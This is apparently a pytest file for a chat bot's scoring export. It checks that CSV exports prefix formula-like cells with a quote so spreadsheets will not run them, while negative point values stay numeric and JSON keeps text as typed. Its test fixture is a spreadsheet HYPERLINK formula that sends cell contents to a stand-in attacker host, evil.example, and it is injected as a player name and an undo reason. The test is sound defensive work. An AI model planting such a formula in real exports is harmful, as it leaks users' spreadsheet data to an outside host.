"""/export format:csv is safe to open in a spreadsheet; the JSON export keeps every text as
it was typed."""

from __future__ import annotations

import csv
import io
import json

import pytest

from bot.core.handlers.exchange import safe_cell
from tests.conftest import Table

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


@pytest.mark.parametrize(("cell", "written"), [
    (FORMULA, "'" + FORMULA),
    ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"),
    # numbers stay numbers: a game's points, and text that is only a number
    (-20, -20), (-2.5, -2.5), ("-20", "-20"), ("+3.5", "+3.5"),
    ("alice", "alice"), ("a=b", "a=b"), ("", ""),
])
def test_a_cell_that_starts_like_a_formula_gets_a_quote(cell, written):
    assert safe_cell(cell) == written


async def test_names_and_reasons_are_neutralised_in_csv_and_kept_in_json(table: Table):
    await table.ok("/newgame players:alice bob carol", by="host")
    await table.ok("/hand winner:alice seen:bob maal:alice=3 bob=1", by=FORMULA, admin=True)
    await table.ok(f"/undo reason:{FORMULA}", by=FORMULA, admin=True)
    await table.ok("/hand winner:bob seen:alice maal:alice=3 bob=1", by="@mallory", admin=True)
    reply = await table.ok("/export format:csv")
    assert reply.file is not None
    rows = list(csv.DictReader(io.StringIO(reply.file.data.decode())))
    # the undone hand: 3 rows, recorded by the formula, its status the formula as a reason
    undone = [r for r in rows if r["status"] != "live"]
    assert {r["recorded_by"] for r in undone} == {"'" + FORMULA}
    assert {r["status"] for r in undone} == {"'" + FORMULA}
    assert {r["recorded_by"] for r in rows if r["status"] == "live"} == {"'@mallory"}
    # a negative number of points stays a number a spreadsheet adds up: alice won hand 1
    # (-> bob and carol pay), so some cell is negative, and none is quoted
    assert any(r["points"].startswith("-") for r in rows)
    assert all(float(r["points"]) == float(r["points"].lstrip("'")) for r in rows)
    assert not any(r["points"].startswith("'") for r in rows)
    data = json.loads((await table.ok("/export")).file.data)  # type: ignore[union-attr]
    hands = data["sessions"][0]["hands"]
    assert hands[0]["recorded_by_name"] == FORMULA  # JSON: as typed
    assert hands[0]["void_reason"].endswith(FORMULA) or FORMULA in hands[0]["void_reason"]
